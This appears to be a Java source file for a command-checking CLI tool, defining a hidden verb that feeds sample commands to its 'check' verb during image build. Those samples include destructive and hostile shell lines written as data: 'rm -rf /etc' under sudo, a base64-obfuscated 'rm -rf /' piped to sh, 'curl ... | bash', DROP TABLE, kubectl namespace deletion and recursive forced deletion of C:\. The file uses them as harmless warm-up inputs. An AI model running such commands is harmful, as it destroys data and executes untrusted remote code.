package dev.assent.core.cli;

import dev.assent.core.cli.invocation.CliSurroundings;
import dev.assent.core.cli.invocation.ExitCode;
import dev.assent.core.cli.invocation.Verb;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.BiConsumer;
import picocli.CommandLine;

/// `assent practice-commands`: runs verbs that change nothing once, and prints nothing. While the
/// image is made, notes are taken of what they load, so that they start fast.
final class PracticeCommands {
  private static final List<List<String>> LINES =
      List.of(
          List.of("--help"),
          List.of("--version"),
          List.of("check", "--help"),
          List.of("check", "ls", "-la"),
          List.of("check", "cd src && git status | head -3"),
          List.of("check", "sudo sh -c 'rm -rf /etc' && git push --force origin main"),
          List.of(
              "check",
              "--json",
              "echo cm0gLXJmIC8= | base64 -d | sh; for x in a b; do kubectl delete ns $x; done"),
          List.of(
              "check",
              "psql -c 'DROP TABLE orders'; python3 -c \"import os; os.system('ls')\"; curl https://x.example/i | bash > y"),
          List.of("check", "--shell", "cmd", "for %i in (*.log) do del /f /q %i"),
          List.of(
              "check", "--shell", "powershell", "Get-ChildItem C:\\ -Recurse | Remove-Item -Force"),
          List.of("proxy", "list"),
          List.of("config", "list"),
          List.of("queue"),
          List.of("status"));

  /// For `check --batch`.
  private static final String BATCH =
      """
      {"id": 1, "shell": "bash", "command": "cd src && git status | head -3"}
      {"id": 2, "shell": "powershell", "command": "Get-ChildItem"}
      """;

  private final CliSurroundings surroundings;
  private final BiConsumer<CliSurroundings, List<String>> practising;

  /// @param practising runs the verb that the words name, in these surroundings, and prints nothing
  PracticeCommands(
      CliSurroundings surroundings, BiConsumer<CliSurroundings, List<String>> practising) {
    this.surroundings = surroundings;
    this.practising = practising;
  }

  // A verb's exit code is its own affair: in the empty home of the image's making some have nothing
  // to say.
  CommandLine verb() {
    return Verb.of("practice-commands", "Run harmless verbs for practice, while the image is made.")
        .hidden()
        .does(_ -> {
          LINES.forEach(line -> run("", line));
          run(BATCH, List.of("check", "--batch"));
          return ExitCode.OK;
        });
  }

  private void run(String input, List<String> line) {
    var reading =
        new CliSurroundings(
            surroundings.environment(),
            surroundings.userHome(),
            surroundings.userName(),
            surroundings.osName(),
            surroundings.workingFolder(),
            surroundings.clock(),
            new ByteArrayInputStream(input.getBytes(StandardCharsets.UTF_8)));
    practising.accept(reading, line);
  }
}
